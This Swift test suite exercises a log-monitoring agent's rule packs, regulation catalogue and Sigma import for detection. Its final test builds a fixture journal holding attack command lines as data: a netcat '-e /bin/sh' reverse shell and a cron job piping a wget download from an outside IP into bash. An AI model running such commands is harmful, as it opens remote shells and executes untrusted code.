import CanhModel
import Foundation
import TestSupport
import Testing

@Suite struct RulesCommandTests {
    let agent = ProcessRunner.builtProduct("canh-agent")
    let rules = ProcessRunner.repositoryRoot + "/rules"

    @Test("rules check on the default pack passes every embedded test and says so on its last line")
    func checkDefaultPack() async throws {
        let result = try await ProcessRunner.run(agent, ["rules", "check", rules])
        #expect(result.status == 0)
        let last = try #require(result.outputLines.last)
        #expect(last.hasSuffix(" passed, 0 failed"))
        let passed = try #require(Int(last.split(separator: " ")[0]))
        #expect(passed >= 28)
        #expect(result.outputLines.count == 1)
    }

    @Test("rules check prints one line per failure and exits 1")
    func checkBrokenPack() async throws {
        let directory = try TemporaryDirectory()
        let pack = directory.file("rules")
        try FileManager.default.copyItem(atPath: rules, toPath: pack)
        let file = pack + "/journal/services.yaml"
        let text = try String(contentsOfFile: file, encoding: .utf8)
            .replacingOccurrences(of: "- {entity: nginx.service, evidence: {result: exit-code}}", with: "- {entity: httpd.service}")
        try text.write(toFile: file, atomically: true, encoding: .utf8)
        let result = try await ProcessRunner.run(agent, ["rules", "check", pack])
        #expect(result.status == 1)
        #expect(result.outputLines.count == 2)
        #expect(
            result.outputLines.first?.hasPrefix(
                "\(file):23: service.failed: test \"a failed service and a failed timer from PID 1\": finding 1: expected entity \"httpd.service\", got \"nginx.service\""
            ) == true)
        #expect(result.outputLines.last?.hasSuffix(" passed, 1 failed") == true)
    }

    @Test(
        "a pattern that gives up on a message (PCRE2's match limit) fails its rule's test and is reported by scan, not counted as no match")
    func patternLimits() async throws {
        let directory = try TemporaryDirectory()
        let pack = try TestPacks.withBacktrackingRule(in: directory)
        // Before: the give-up counted as "no match", so this test passed and scan said nothing.
        let check = try await ProcessRunner.run(agent, ["rules", "check", pack])
        #expect(check.status == 1)
        #expect(check.outputLines.count == 2, "\(check.standardOutput)")
        #expect(
            check.outputLines.first?.contains(
                "test.backtracking: test \"a long run of a's ending in b does not\": the message pattern gave up (PCRE2's match limit) on entry 1"
            ) == true, "\(check.standardOutput)")

        let journal = try await JournalFixture.write(
            [
                FixtureEntry(
                    time: .at("2026-11-21T10:00:00Z"), ["SYSLOG_IDENTIFIER": "slowapp", "MESSAGE": TestPacks.backtrackingMessage]),
                FixtureEntry(
                    time: .at("2026-11-21T10:00:01Z"), ["SYSLOG_IDENTIFIER": "slowapp", "MESSAGE": TestPacks.backtrackingMessage]),
                FixtureEntry(time: .at("2026-11-21T10:00:02Z"), ["SYSLOG_IDENTIFIER": "slowapp", "MESSAGE": "aaaa"]),
            ], named: "slow.journal", in: directory)
        let scan = try await ProcessRunner.run(agent, ["scan", "--rules", pack, "--level", "3", "--journal-file", journal])
        #expect(
            scan.standardError.contains("warning: rule test.backtracking: its message pattern gave up on 2 entries"),
            "\(scan.standardError)")
        #expect(scan.standardOutput.contains(#""entity":"aaaa""#), "the scan goes on after a give-up")
    }

    @Test("the catalogue: an automated requirement no rule cites, and an area outside TT12's groups, are problems")
    func catalogueConsistency() async throws {
        let directory = try TemporaryDirectory()
        let pack = directory.file("rules")
        try FileManager.default.copyItem(atPath: rules, toPath: pack)
        try FileManager.default.removeItem(atPath: pack + "/host/time.yaml")
        let catalogue = pack + "/requirements.yaml"
        let text = try String(contentsOfFile: catalogue, encoding: .utf8)
            .replacingOccurrences(of: "  - id: ND85-NET-AC-01\n    area: network", with: "  - id: ND85-NET-AC-01\n    area: perimeter")
        try text.write(toFile: catalogue, atomically: true, encoding: .utf8)
        let result = try await ProcessRunner.run(agent, ["rules", "check", pack])
        #expect(result.status == 1)
        let lines = result.outputLines
        #expect(
            lines.contains {
                $0.hasPrefix(catalogue)
                    && $0.hasSuffix(
                        "ND85-NET-AC-01.area: must be one of: network, server, application, data, design, management (TT12 Điều 9.3–9.4)")
            })
        #expect(
            lines.contains {
                $0.hasPrefix(catalogue)
                    && $0.hasSuffix("ND85-SRV-LOG-02.check: is automated but no rule cites it; cite it from a rule or mark it manual")
            } == false, "time.sync.lost still cites it")
        try FileManager.default.removeItem(atPath: pack + "/journal/time.yaml")
        let uncited = try await ProcessRunner.run(agent, ["rules", "check", pack])
        #expect(
            uncited.outputLines.contains {
                $0.hasSuffix("ND85-SRV-LOG-02.check: is automated but no rule cites it; cite it from a rule or mark it manual")
            })
    }

    @Test("rules list --level shows the parameters in force there, inherited from below")
    func listLevels() async throws {
        let level1 = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "1", "--format", "json"])
        let level4 = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "4", "--format", "json"])
        func listing(_ output: String) throws -> [String: Any] {
            try #require(try JSONSerialization.jsonObject(with: Data(output.utf8)) as? [String: Any])
        }
        func rule(_ id: String, in output: String) throws -> [String: Any] {
            let array = try #require(try listing(output)["rules"] as? [[String: Any]])
            return try #require(array.first { $0["id"] as? String == id })
        }
        #expect(
            (try rule("auth.ssh.bruteforce", in: level1.standardOutput)["parameters"] as? [String: String]) == [
                "failures": "10", "window": "10m",
            ])
        #expect(
            (try rule("auth.ssh.bruteforce", in: level4.standardOutput)["parameters"] as? [String: String]) == [
                "failures": "5", "window": "10m",
            ])
        let level1IDs = try #require(try listing(level1.standardOutput)["rules"] as? [[String: Any]]).compactMap { $0["id"] as? String }
        #expect(!level1IDs.contains("log.audit.stopped"), "process logging applies from level 3")

        let table = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3"])
        #expect(table.status == 0)
        #expect(table.outputLines.first == "canh-default 2026.11.0, cấp độ 3")
        #expect(table.standardOutput.contains("failures=5 window=10m"))
        #expect(table.standardOutput.contains("Mất đồng bộ thời gian"))
    }

    @Test("rules list --level: every requirement in force, with the rules that show it or \"manual\", cited at the level")
    func listRequirements() async throws {
        let json = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3", "--format", "json"])
        let listing = try #require(try JSONSerialization.jsonObject(with: Data(json.standardOutput.utf8)) as? [String: Any])
        let requirements = try #require(listing["requirements"] as? [[String: Any]])
        func requirement(_ id: String) throws -> [String: Any] { try #require(requirements.first { $0["id"] as? String == id }) }
        #expect(try requirement("ND85-SRV-LOG-02")["rules"] as? [String] == ["time.sync.disabled", "time.sync.lost"])
        // The citation at the level asked for, structured: the leaf row of appendix III and its clause.
        let citations = try #require(try requirement("ND85-SRV-LOG-01")["citations"] as? [[String: Any]])
        #expect(citations.count == 1)
        #expect(citations.first?["level"] as? Int == 3)
        let rows = try #require(citations.first?["tt12"] as? [[String: Any]])
        #expect(rows.first?["row"] as? String == "II.2/1.2.3")
        #expect(rows.first?["tcvn11930"] as? String == "7.2.2.3")
        #expect(citations.first?["tcvn14423"] as? [String] == ["5.8.2.1 a"])
        #expect(try requirement("ND85-SRV-LOG-01")["threshold"] != nil, "the one-hour gap is Canh's own rule and says so")
        #expect(try requirement("ND85-MGT-POL-01")["check"] as? String == "manual")
        #expect(try requirement("ND85-SRV-MAL-01")["provable"] as? Bool == true, "malware.protection.missing is a state check")
        #expect(try requirement("ND85-SRV-OPS-01")["provable"] as? Bool == false, "service.failed only detects")
        #expect(requirements.contains { $0["id"] as? String == "ND85-APP-NR-01" }, "non-repudiation applies at level 3")
        let level1 = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "1", "--format", "json"])
        let level1Requirements = try #require(
            (try JSONSerialization.jsonObject(with: Data(level1.standardOutput.utf8)) as? [String: Any])?["requirements"]
                as? [[String: Any]])
        #expect(!level1Requirements.contains { $0["id"] as? String == "ND85-APP-NR-01" }, "non-repudiation applies from level 3")

        let english = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3", "--lang", "en"])
        #expect(english.outputLines.contains("ND85-SRV-LOG-02  [server]  automated: time.sync.disabled, time.sync.lost"))
        #expect(english.outputLines.contains("ND85-MGT-POL-01  [management]  manual — attested in the collector"))
        // Only a state check's pass proves a requirement: the count says how many can be.
        #expect(
            english.outputLines.contains(
                "REQUIREMENTS (65): 18 automated — 16 with a state check that can prove them met, 2 with detections only; 47 manual"))
        #expect(
            english.outputLines.contains("ND85-SRV-OPS-01  [management]  automated, detections only (never proven met): service.failed"))
        #expect(
            english.outputLines.contains(
                "    Legacy: Circular 12/2022 Appendix III, section II.2, row 1.2.3 (TCVN 11930:2017 clause 7.2.2.3) [mandatory, secondary]"
            ))
        let vietnamese = try await ProcessRunner.run(agent, ["rules", "list", "--rules", rules, "--level", "3"])
        #expect(vietnamese.outputLines.contains("ND85-MGT-POL-01  [quản lý]  thủ công — chứng thực tại máy chủ thu thập"))
        #expect(vietnamese.outputLines.contains { $0.hasPrefix("QUY TẮC (") })
    }

    @Test("--version prints the version")
    func version() async throws {
        let result = try await ProcessRunner.run(agent, ["--version"])
        #expect(result.status == 0)
        #expect(result.outputLines == ["0.1.0"])
    }

    @Test("import-sigma converts what the journal carries, names every refusal, and the result checks and scans as a pack")
    func importSigma() async throws {
        let directory = try TemporaryDirectory()
        let fixtures = ProcessRunner.repositoryRoot + "/Tests/SigmaImportTests/Fixtures"
        let pack = directory.file("rules")
        try FileManager.default.copyItem(atPath: rules, toPath: pack)
        let imported = try await ProcessRunner.run(agent, ["rules", "import-sigma", fixtures, "--output", pack + "/sigma"])
        #expect(imported.status == 1, "some fixtures are not importable by design")
        let refusals = imported.outputLines.filter { $0.hasPrefix("not importable: ") }
        #expect(
            refusals.map { $0.components(separatedBy: ": ")[1].replacingOccurrences(of: fixtures + "/", with: "") } == [
                "refused/aggregation.yml", "refused/bad_regex.yml", "refused/base64_modifier.yml", "refused/complex_key.yml",
                "refused/linux_process_creation.yml",
                "refused/no_id.yml", "refused/unknown_field.yml", "refused/windows_process.yml",
            ])
        #expect(refusals.contains { $0.contains("bad_regex.yml: the converted rule does not compile") })
        #expect(imported.outputLines.last == "imported 5 of 13 Sigma rules into \(pack)/sigma")

        let checked = try await ProcessRunner.run(agent, ["rules", "check", pack])
        #expect(checked.status == 0, "\(checked.standardOutput)")
        #expect(checked.outputLines.contains { $0.hasPrefix("5 imported Sigma rule(s) cite no requirement") })
        #expect(checked.outputLines.contains("5 imported Sigma rule(s) have no embedded tests yet"))

        let start = Timestamp.at("2026-11-22T03:00:00Z")
        func entry(_ offset: Int64, _ fields: [(String, String)]) -> FixtureEntry {
            FixtureEntry(
                time: start + .seconds(offset), fields: fields.map { ($0.0, Array($0.1.utf8)) } + [("_HOSTNAME", Array("web01".utf8))])
        }
        let journal = try await JournalFixture.write(
            [
                entry(
                    0,
                    [
                        ("SYSLOG_IDENTIFIER", "sshd"), ("_COMM", "sshd"),
                        ("MESSAGE", "Failed password for root from 203.0.113.5 port 1 ssh2"),
                    ]),
                entry(
                    1,
                    [("SYSLOG_IDENTIFIER", "sshd"), ("_COMM", "sshd"), ("MESSAGE", "Failed password for hoa from 10.10.1.7 port 1 ssh2")]),
                entry(
                    2,
                    [
                        ("SYSLOG_IDENTIFIER", "audit"), ("_TRANSPORT", "audit"), ("_AUDIT_TYPE_NAME", "EXECVE"),
                        ("MESSAGE", #"EXECVE argc=3 a0="nc" a1="-e" a2="/bin/sh""#),
                    ]),
                entry(3, [("SYSLOG_IDENTIFIER", "CRON"), ("MESSAGE", "(root) CMD (wget -qO- http://203.0.113.9/x | bash)")]),
            ], named: "mixed.journal", in: directory)
        let scanned = try await ProcessRunner.run(agent, ["scan", "--rules", pack, "--journal-file", journal, "--level", "3"])
        let sigmaRules = try scanned.outputLines.map { try FindingRecord(jsonLine: $0) }.map(\.rule).filter { $0.hasPrefix("sigma.") }
        #expect(
            sigmaRules.sorted() == [
                "sigma.auditd.netcat_executed_with_a_shell", "sigma.cron.cron_job_downloading_and_piping_to_a_shell",
                "sigma.sshd.ssh_password_refused_outside_the_admin_network",
            ])
    }
}
